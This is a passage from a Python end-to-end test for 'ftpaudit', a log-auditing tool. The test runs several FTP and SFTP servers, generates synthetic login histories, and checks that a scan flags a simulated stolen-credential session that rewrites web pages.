                     'rename'], sizes=('download', 'upload'),
                    loose=('rename',), history='pureftpd'),
            LogSpec('altlog clf', self.clf, 'pureftpd-clf', ['ftp'],
                    ['download', 'upload'], sizes=('download', 'upload'),
                    history='pureftpd-clf'),
        ]


# ----------------------------------------------------------------- checks

# ftpaudit mis-parses these real log lines; the parsers belong to others,
# so the test reports them (one 'known' line each) without failing.  When
# one is fixed the run says so: delete its entry then.
#   (server, log label, regex on the surplus event's raw line, what is wrong)
KNOWN = [
    # none at present
]


def fact_kind(action, outcome):
    if action == 'login':
        return 'fail' if outcome == 'failure' else 'login'
    return action


def flat(e):
    """The fields of one parsed event this test looks at."""
    ev = e.get('event') or {}
    return {
        'kind': fact_kind(ev.get('action'), ev.get('outcome')),
        'action': ev.get('action'), 'outcome': ev.get('outcome'),
        'user': (e.get('user') or {}).get('name'),
        'ip': (e.get('source') or {}).get('ip'),
        'path': (e.get('file') or {}).get('path'),
        'path2': (e.get('ftpaudit') or {}).get('target_path'),
        'size': (e.get('file') or {}).get('size'),
        'host': (e.get('host') or {}).get('name'),
        'time': e.get('@timestamp'),
        'line': ((e.get('log') or {}).get('file') or {}).get('line'),
        'original': ev.get('original'),
    }


def parse(ftpaudit, path, args=()):
    """(exit status, flat events, the per-file summary line)."""
    r = run([ftpaudit, 'parse'] + list(args) + [path], timeout=120)
    events = []
    for line in r.stdout.splitlines():
        if line.strip():
            events.append(flat(json.loads(line)))
    return r.returncode, events, r.stderr.strip()


def describe(f):
    s = f"{f['kind']} {f['user']}@{f['ip']}"
    if f.get('rel'):
        s += ' ' + f['rel']
    if f.get('rel2'):
        s += ' -> ' + f['rel2']
    if f.get('size') is not None:
        s += f" ({f['size']} bytes)"
    return s


def describe_event(e):
    return (f"line {e['line']}: {e['kind']} user={e['user']} ip={e['ip']} "
            f"path={e['path']} target={e['path2']} size={e['size']}")


def path_ok(spec, fact, want_rel, got):
    if want_rel is None:
        return True
    if got is None:
        return False
    want = os.path.join(home(fact['user']), want_rel)
    if got == want:
        return True
    if fact['kind'] in spec.loose or fact['step'] in spec.loose:
        # what the client sent, relative to its working folder
        tail = want_rel.split('/', 1)[1]
        return got == tail or got.endswith('/' + tail)
    return False


def matches(spec, fact, e):
    if e['kind'] != fact['kind'] or e['ip'] != fact['ip']:
        return False
    if fact['kind'] != 'fail' or spec.fail_user:
        if e['user'] != fact['user']:
            return False
    if fact['kind'] in ('login', 'fail'):
        return True
    if not path_ok(spec, fact, fact['rel'], e['path']):
        return False
    if fact['rel2'] and not path_ok(spec, fact, fact['rel2'], e['path2']):
        return False
    if fact['kind'] in spec.sizes and e['size'] != fact['size']:
        return False
    return True


def check_log(server, spec, facts, ftpaudit, mmdb):
    what = f'{server.name}: {spec.label}'
    if not R.check(os.path.exists(spec.path) and
                   os.path.getsize(spec.path) > 0,
                   f'{what}: the server wrote it', spec.path):
        return
    rc, events, summary = parse(ftpaudit, spec.path, spec.parse_args)
    ok = (rc == 0 and f': {spec.fmt}, ' in summary and
          ' 0 malformed' in summary)
    R.check(ok, f'{what}: read as {spec.fmt}, no malformed line', summary)

    expected = [f for rnd in spec.rounds for f in facts[rnd].items
                if f['kind'] in spec.actions]
    # every event of the kinds this log records: the live logs hold only
    # the scenario, so anything left over is counted twice or invented
    pool = [e for e in events if e['kind'] in spec.actions]
    used = set()
    missing = {}
    for f in expected:
        for i, e in enumerate(pool):
            if i not in used and matches(spec, f, e):
                used.add(i)
                break
        else:
            missing.setdefault(f['step'], []).append(describe(f))
    for step in dict.fromkeys(f['step'] for f in expected):
        kinds = [f['kind'] for f in expected if f['step'] == step]
        counted = ', '.join(f'{kinds.count(k)} {k}' for k in
                            dict.fromkeys(kinds))
        R.check(step not in missing, f'{what}: {step}: {counted}',
                'not found: ' + '; '.join(missing.get(step, [])))
    known = [k for k in KNOWN if k[0] == server.name and k[1] == spec.label]
    extra, seen = [], {}
    for i, e in enumerate(pool):
        if i in used:
            continue
        k = next((k for k in known
                  if re.search(k[2], e['original'] or '')), None)
        if k is None:
            extra.append(describe_event(e))
        else:
            seen.setdefault(k, []).append(e)
    for k in known:
        if k in seen:
            e = seen[k][0]
            R.known(f'{what}: {k[3]} ({len(seen[k])} surplus events)',
                    f"e.g. line {e['line']}: {e['original']}")
        else:
            log(f'{what}: known issue no longer seen, remove it from KNOWN '
                f'in tests/e2e/e2e.py: {k[3]}')
    R.check(not extra, f'{what}: no event twice, none unexplained',
            '\n     '.join(extra[:12]))
    if spec.history:
        check_scan(server, spec, events, facts, ftpaudit, mmdb)


def history_file(spec, events):
    """Write the generated history beside the live log, named as its
    rotated predecessor (x.log.1); returns (path, expected events)."""
    now = dt.datetime.now(dt.timezone.utc)
    sessions = history_sessions(now)
    lines = HISTORY[spec.history](sessions, history_context(spec, events))
    path = spec.path + '.1'
    with open(path, 'w') as f:
        f.write('\n'.join(lines) + '\n')
    # what the history should parse into, in the kinds this log records
    want = 0
    for s in sessions:
        want += 'login' in spec.actions
        want += s['typo'] and 'fail' in spec.actions
        want += sum(1 for op in s['ops'] if op[0] in spec.actions)
    return path, sessions, want


def check_scan(server, spec, events, facts, ftpaudit, mmdb):
    what = f'{server.name}: {spec.label}'
    hist, sessions, want = history_file(spec, events)
    rc, hevents, summary = parse(ftpaudit, hist, spec.parse_args)
    got = sum(1 for e in hevents if e['kind'] in spec.actions)
    R.check(rc == 0 and f': {spec.fmt}, ' in summary and
            ' 0 malformed' in summary and got == want,
            f'{what}: generated history ({len(sessions)} sessions) read as '
            f'{spec.fmt}, {want} events', f'{summary}; {got} events')

    r = run([ftpaudit, 'scan', '--format', 'json', '--geoip', mmdb] +
            spec.parse_args + [hist, spec.path], timeout=120)
    try:
        report = json.loads(r.stdout)
    except ValueError:
        R.check(False, f'{what}: scan wrote a JSON report',
                f'exit {r.returncode}: {r.stderr[-500:]}')
        return
    with open(spec.path + '.scan.json', 'w') as f:
        f.write(r.stdout)
    # exit 1: a finding reached --fail-on (high by default)
    R.check(r.returncode == 1, f'{what}: scan exits 1 (a high finding)',
            f'exit {r.returncode}: {r.stderr[-300:]}')

    findings = report.get('findings') or []
    severe = [f for f in findings if f.get('severity') in SEVERE]
    minor = 0
    for f in findings:
        src = f.get('source') or {}
        if f.get('severity') in ('info', 'low'):
            minor += 1
            continue
        log(f"  finding {f.get('severity')} {f.get('score')} "
            f"{f.get('user')}@{src.get('ip')} {src.get('country')} "
            f"{','.join(f.get('rules') or [])}")
    log(f'  and {minor} info/low findings')
    R.check(len(severe) == 1,
            f'{what}: exactly one high/critical finding',
            f'{len(severe)}: ' + '; '.join(
                f"{f.get('user')}@{(f.get('source') or {}).get('ip')} "
                f"{f.get('severity')}" for f in severe))
    gumblar = [f for f in severe if f.get('user') == ALICE and
               (f.get('source') or {}).get('ip') == IP_EVIL]
    if not R.check(len(gumblar) == 1,
                   f'{what}: it is {ALICE} from {IP_EVIL}'):
        return
    g = gumblar[0]
    src = g.get('source') or {}
    R.check(src.get('country') == 'CN' and src.get('asn') == 64501,
            f'{what}: source country CN, AS64501',
            f"country {src.get('country')} asn {src.get('asn')}")
    rewritten = [f for f in facts[spec.rounds[0]].items
                 if f['step'] == 'gumblar' and f['kind'] == 'upload']
    want_files = sorted(os.path.join(home(f['user']), f['rel'])
                        for f in rewritten)
    R.check(sorted(g.get('files') or []) == want_files,
            f'{what}: files to restore are the {len(want_files)} '
            'rewritten pages', f"got {g.get('files')}, want {want_files}")
    rules = set(g.get('rules') or [])
    R.check({'download-reupload', 'new-country'} <= rules,
            f'{what}: rules download-reupload and new-country fired',
            f'rules {sorted(rules)}')
    ev_files = {e.get('file') for e in g.get('evidence') or []}
    R.check(ev_files == {spec.path},
            f'{what}: evidence points into the live log',
            f'evidence files {sorted(ev_files)}')

    accounts = {a.get('user'): a for a in report.get('accounts') or []}
    alice = accounts.get(ALICE) or {}
    base = alice.get('baseline') or {}
    R.check(alice.get('verdict') == 'likely stolen-credential login' and
            base.get('sessions', 0) >= 10 and
            'JP' in (base.get('countries') or []),
            f'{what}: {ALICE} compromised, with a baseline learned from the '
            'history (JP)',
            f"verdict {alice.get('verdict')}, baseline {base.get('sessions')}"
            f" sessions, countries {base.get('countries')}")
    timeline = [t for t in alice.get('timeline') or []
                if t.get('ip') == IP_EVIL]
    R.check(len(timeline) == 1 and timeline[0].get('uploads') == 3 and
            timeline[0].get('downloads') == 3,
            f'{what}: timeline shows the session from {IP_EVIL} with 3 '
            'downloads and 3 uploads', json.dumps(timeline))
    innocent = [a for u, a in accounts.items() if u != ALICE and
                a.get('severity') in SEVERE]
    R.check(not innocent, f'{what}: no other account high or critical',
            '; '.join(f"{a.get('user')} {a.get('severity')}"
                      for a in innocent))


# ---------------------------------------------------------------- history

def history_sessions(now):
    """Four weeks of ordinary work, ending two days before the live run:
    alice and bob once every weekday in office hours from their home
    ISP's addresses, editing the same pages as always; now and then a
    mistyped password first.  Deterministic (seeded)."""
    rnd = random.Random(1999)
    sessions = []
    first = (now - dt.timedelta(days=30)).date()
    for day in range(28):
        date = first + dt.timedelta(days=day)
        if date.weekday() >= 5:
            continue
        for user in (ALICE, BOB):
            t = dt.datetime(date.year, date.month, date.day,
                            rnd.randint(8, 16), rnd.randint(0, 59),
                            rnd.randint(0, 59), tzinfo=dt.timezone.utc)
            if user == ALICE:
                ip = IP_ALICE2 if rnd.random() < 0.2 else IP_ALICE
                ops = [('download', 'index.html', len(SITE['index.html'])),
                       ('upload', 'news.html', rnd.randint(50, 90))]
                if rnd.random() < 0.3:
                    ops.append(('upload', 'index.html',
                                len(SITE['index.html'])))
            else:
                ip = IP_BOB2 if rnd.random() < 0.3 else IP_BOB
                ops = [('download', 'js/app.js', len(SITE['js/app.js'])),
                       ('upload', 'notes.txt', rnd.randint(10, 40))]
            sessions.append({'user': user, 'ip': ip, 'time': t, 'ops': ops,
                             'typo': rnd.random() < 0.15,
                             'port': rnd.randint(32768, 60999)})
    return sessions


def op_times(s):
    """(time, action, absolute path, relative path, size) of each op."""
    out = []
    for k, (action, rel, size) in enumerate(s['ops']):
        t = s['time'] + dt.timedelta(seconds=3 + 2 * k)
        out.append((t, action, site_path(s['user'], rel), rel, size))
    return out


def t_end(s):
    return s['time'] + dt.timedelta(seconds=4 + 2 * len(s['ops']))


def ctime(t):
    return t.strftime('%a %b %e %H:%M:%S %Y')


def rfc3339(t, us=0):
    return (t + dt.timedelta(microseconds=us)).strftime(
        '%Y-%m-%dT%H:%M:%S.%f+00:00')


def hist_vsftpd(sessions, ctx, protocol=False):
    lines = []
    pid = 20000
    for s in sessions:
        pid += 10
        u, ip, t = s['user'], s['ip'], s['time']

        def say(t, p, text, user=True):
            tag = f' [{u}]' if user else ''
            lines.append(f'{ctime(t)} [pid {p}]{tag} {text}')

        def cmd(t, text, user=True):
            if protocol:
                say(t, pid, f'FTP command: Client "{ip}", "{text}"', user)

        def resp(t, text, user=True):
            if protocol:
                say(t, pid, f'FTP response: Client "{ip}", "{text}"', user)

        say(t, pid, f'CONNECT: Client "{ip}"', user=False)
        resp(t, '220 (vsFTPd 3.0.3)', user=False)
        for attempt in ([False, True] if s['typo'] else [True]):
            cmd(t, f'USER {u}', user=False)
            resp(t, '331 Please specify the password.')
            cmd(t, 'PASS <password>')
            if attempt:
                say(t, pid - 1, f'OK LOGIN: Client "{ip}"')
                resp(t, '230 Login successful.')
            else:
                say(t, pid - 1, f'FAIL LOGIN: Client "{ip}"')
                resp(t, '530 Login incorrect.')
        for ot, action, path, rel, size in op_times(s):
            verb = 'RETR' if action == 'download' else 'STOR'
            cmd(ot, f'{verb} {path}')
            resp(ot, '150 Ok to send data.' if verb == 'STOR' else
                 f'150 Opening BINARY mode data connection for {path} '
                 f'({size} bytes).')
            say(ot, pid + 1, f'OK {action.upper()}: Client "{ip}", '
                f'"{path}", {size} bytes, 312.50Kbyte/sec')
            resp(ot, '226 Transfer complete.')
        cmd(t_end(s), 'QUIT')
        resp(t_end(s), '221 Goodbye.')
    return lines


def hist_xferlog(sessions, ctx):
    # the last fields as this server writes them: service name, access
    # mode, user id, completion ("ftp 0 * c", "sftp 0 * c")
    service, auth, authuser, status = ctx['xferlog_tail']
    lines = []
    for s in sessions:
        for ot, action, path, rel, size in op_times(s):
            d = 'o' if action == 'download' else 'i'
            lines.append(f'{ctime(ot)} {ctx["xferlog_secs"]} {s["ip"]} '
                         f'{size} {path} b _ {d} r {s["user"]} {service} '
                         f'{auth} {authuser} {status}')
    return lines


def hist_proftpd_ext(sessions, ctx, sftp=False):
    lines = []
    for s in sessions:
        u, ip = s['user'], s['ip']

        def say(t, user, req, code, size='-'):
            stamp = t.strftime('[%d/%b/%Y:%H:%M:%S +0000]')
            lines.append(f'{ip} UNKNOWN {user} {stamp} "{req}" {code} {size}')

        t = s['time']
        if sftp:
            for req in ('KEXINIT', 'ECDH_INIT', 'NEWKEYS', 'SERVICE_REQUEST'):
                say(t, '-', req, '-')
        for attempt in ([False, True] if s['typo'] else [True]):
            say(t, '-', f'USER {u}', 331)
            say(t, u if attempt else '-', 'PASS (hidden)',
                230 if attempt else 530)
        if sftp:
            say(t, u, f'USERAUTH_REQUEST {u} password', '-')
            say(t, u, 'CHANNEL_OPEN session', '-')
        else:
            say(t, u, f'CWD {home(u)}/public_html', 250)
        for ot, action, path, rel, size in op_times(s):
            verb = 'RETR' if action == 'download' else 'STOR'
            say(ot, u, f'{verb} {path if sftp else rel}', 226, size)
        if not sftp:
            say(t_end(s), u, 'QUIT', 221)
    return lines


def hist_openssh(sessions, ctx):
    host = ctx['host']
    lines = []
    pid = 30000
    for s in sessions:
        pid += 10
        u, ip, port, t = s['user'], s['ip'], s['port'], s['time']
        uid = pwd.getpwnam(u).pw_uid

        def say(t, prog, p, text, us=0):
            lines.append(f'{rfc3339(t, us)} {host} {prog}[{p}]: {text}')

        say(t, 'sshd', pid, f'Connection from {ip} port {port} on 127.0.0.1 '
            f'port 22 rdomain ""')
        if s['typo']:
            say(t, 'sshd', pid, 'pam_unix(sshd:auth): authentication '
                'failure; logname= uid=0 euid=0 tty=ssh ruser= '
                f'rhost={ip}  user={u}', 1000)
            say(t, 'sshd', pid, f'Failed password for {u} from {ip} port '
                f'{port} ssh2', 2000)
        say(t, 'sshd', pid, f'Accepted password for {u} from {ip} port '
            f'{port} ssh2', 3000)
        say(t, 'sshd', pid, 'pam_unix(sshd:session): session opened for '
            f'user {u}(uid={uid}) by (uid=0)', 4000)
        say(t, 'sshd', pid, f'User child is on pid {pid + 1}', 5000)
        say(t, 'sshd', pid + 1, f"Starting session: subsystem 'sftp' for {u} "
            f'from {ip} port {port} id 0', 6000)
        say(t, 'internal-sftp', pid + 2, 'session opened for local user '
            f'{u} from [{ip}]', 7000)
        for ot, action, path, rel, size in op_times(s):
            if action == 'download':
                say(ot, 'internal-sftp', pid + 2,
                    f'open "{path}" flags READ mode 0666')
                say(ot, 'internal-sftp', pid + 2,
                    f'close "{path}" bytes read {size} written 0', 500)
            else:
                say(ot, 'internal-sftp', pid + 2,
                    f'open "{path}" flags WRITE,CREATE,TRUNCATE mode 0644')
                say(ot, 'internal-sftp', pid + 2,
                    f'close "{path}" bytes read 0 written {size}', 500)
        e = t_end(s)
        say(e, 'internal-sftp', pid + 2, 'session closed for local user '
            f'{u} from [{ip}]')
        say(e, 'sshd', pid + 1, f'Received disconnect from {ip} port {port}:'
            '11: disconnected by user', 100)
        say(e, 'sshd', pid + 1, f'Disconnected from user {u} {ip} port '
            f'{port}', 200)
        say(e, 'sshd', pid, 'pam_unix(sshd:session): session closed for '
            f'user {u}', 300)
    return lines


def hist_pureftpd(sessions, ctx):
    host = ctx['host']
    lines = []
    for s in sessions:
        u, ip, t = s['user'], s['ip'], s['time']

        def say(t, who, text, us=0):
            lines.append(f'{rfc3339(t, us)} {host} pure-ftpd: ({who}@{ip}) '
                         f'{text}')

        say(t, '?', f'[INFO] New connection from {ip}')
        if s['typo']:
            say(t, '?', f'[WARNING] Authentication failed for user [{u}]',
                1000)
        say(t, '?', f'[INFO] {u} is now logged in', 2000)
        for ot, action, path, rel, size in op_times(s):
            verb = 'downloaded' if action == 'download' else 'uploaded'
            say(ot, u, f'[NOTICE] /{path} {verb}  ({size} bytes, '
                '312.50KB/sec)')
        say(t_end(s), u, '[INFO] Logout.')
    return lines


def hist_pureftpd_clf(sessions, ctx):
    lines = []
    for s in sessions:
        for ot, action, path, rel, size in op_times(s):
            verb = 'GET' if action == 'download' else 'PUT'
            stamp = ot.strftime('[%d/%b/%Y:%H:%M:%S -0000]')
            lines.append(f'{s["ip"]} - {s["user"]} {stamp} "{verb} {path}" '
                         f'200 {size}')
    return lines


HISTORY = {
    'vsftpd': hist_vsftpd,
    'vsftpd-protocol': lambda s, c: hist_vsftpd(s, c, protocol=True),
    'xferlog': hist_xferlog,
    'proftpd-extended': hist_proftpd_ext,
    'proftpd-extended-sftp': lambda s, c: hist_proftpd_ext(s, c, sftp=True),
    'openssh': hist_openssh,
    'pureftpd': hist_pureftpd,
    'pureftpd-clf': hist_pureftpd_clf,
}


def history_context(spec, events):
    """What the history must share with the live log: the server's host
    name as its log spells it, the xferlog trailer."""
    hosts = [e['host'] for e in events if e['host']]
    ctx = {'host': max(set(hosts), key=hosts.count) if hosts
           else socket.gethostname()}
    with open(spec.path, errors='replace') as f:
        first = f.readline().split()
    if len(first) >= 18:
        ctx['xferlog_tail'] = first[-4:]
        ctx['xferlog_secs'] = first[5]
    else:
        ctx['xferlog_tail'] = ['ftp', '0', '*', 'c']
        ctx['xferlog_secs'] = '1'
    return ctx


# ------------------------------------------------------------------- main

SERVERS = {
    'vsftpd': lambda w: Vsftpd(w, False),
    'vsftpd-protocol': lambda w: Vsftpd(w, True),
    'proftpd': Proftpd,
    'sshd': Sshd,
    'pureftpd': Pureftpd,
}


def run_server(server, ftpaudit, mmdb, nouser):
    t0 = time.monotonic()
    log(f'{server.name}: starting')
    facts = {}
    try:
        ports = server.start()
        for rnd in server.rounds:
            log(f'{server.name}: {rnd} round on port {ports[rnd]}')
            build_site()
            facts[rnd] = Facts()
            client = Client(os.path.join(server.work, f'clients-{rnd}'),
                            rnd, ports[rnd])
            scenario(client, facts[rnd], nouser)
    finally:
        server.stop()
    log(f'{server.name}: servers stopped after '
        f'{time.monotonic() - t0:.1f} s')
    for spec in server.logs():
        check_log(server, spec, facts, ftpaudit, mmdb)


def main():
    if os.environ.get('FTPAUDIT_E2E') == '0':
        print('e2e: skipped (FTPAUDIT_E2E=0)')
        return 77
    if os.geteuid() != 0:
        print('e2e: skipped: real servers need root (users, PAM, ports, '
              '/dev/log); run as root, e.g. sudo tests/run-all.sh')
        return 77
    if len(sys.argv) < 3:
        print(__doc__)
        return 2
    ftpaudit = os.path.abspath(sys.argv[1])
    srcroot = os.path.abspath(sys.argv[2])
    wanted = sys.argv[3:] or list(SERVERS)
    for w in wanted:
        if w not in SERVERS:
            print(f'e2e: unknown run {w}; known: {" ".join(SERVERS)}')
            return 2

    # A signal (meson's timeout, ^C) must still stop every server.
    def on_signal(signum, frame):
        raise SystemExit(128 + signum)
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(s, on_signal)

    # One run at a time on the machine (several build folders, several
    # people): runs share /dev/log, the test users and their web folders.
    t0 = time.monotonic()
    os.makedirs(ROOT, exist_ok=True)
    lock = open(os.path.join(ROOT, 'lock'), 'w')
    waiting = False
    while True:
        try:
            fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
            break
        except BlockingIOError:
            if time.monotonic() - t0 > 600:
                print('e2e: another e2e run held the lock for 10 minutes; '
                      '0 passed, 1 failed')
                return 1
            if not waiting:
                log('waiting for another e2e run to finish')
                waiting = True
            time.sleep(0.5)

    if os.environ.get('FTPAUDIT_E2E_INSTALL', '1') != '0':
        r = subprocess.run(['sh', os.path.join(HERE, 'install.sh')])
        if r.returncode == 77:
            return 77
        if r.returncode != 0:
            print('e2e: tests/e2e/install.sh failed; 0 passed, 1 failed')
            return 1
    log(f'install check: {time.monotonic() - t0:.1f} s')

    nouser = 'admin'
    for cand in ('admin', 'webadmin', 'e2e-nosuchuser'):
        try:
            pwd.getpwnam(cand)
        except KeyError:
            nouser = cand
            break

    os.environ['TZ'] = 'UTC'
    tmp = tempfile.mkdtemp(prefix='ftpaudit-e2e.')
    os.chmod(tmp, 0o755)
    log(f'work folder {tmp}')
    try:
        mmdb = os.path.join(tmp, 'loopback.mmdb')
        r = run(['perl', os.path.join(srcroot, 'tests/tools/make-mmdb.pl'),
                 mmdb, 'geoip2'] + GEO_NETS)
        if r.returncode != 0:
            raise RuntimeError('make-mmdb.pl: ' + r.stderr)
        for name in wanted:
            server = SERVERS[name](os.path.join(tmp, name))
            try:
                run_server(server, ftpaudit, mmdb, nouser)
            except Skip as e:
                R.skip(name, str(e))
            except Exception as e:   # noqa: BLE001 -- reported, not lost
                R.check(False, f'{name}: scenario ran',
                        f'{type(e).__name__}: {e}')
            finally:
                PROCS.stop_all()
    finally:
        PROCS.stop_all()
        if R.failed or os.environ.get('FTPAUDIT_E2E_KEEP') == '1':
            log(f'logs and configurations kept in {tmp}')
        else:
            shutil.rmtree(tmp, ignore_errors=True)
    log(f'total {time.monotonic() - t0:.1f} s')
    if R.nknown:
        log(f'{R.nknown} known ftpaudit parser issue(s) seen (the "known" '
            'lines)')
    for what in R.failures:
        log(f'failed: {what}')
    print(f'{R.passed} passed, {R.failed} failed, {R.skipped} skipped')
    return 1 if R.failed else 0


if __name__ == '__main__':
    sys.exit(main())
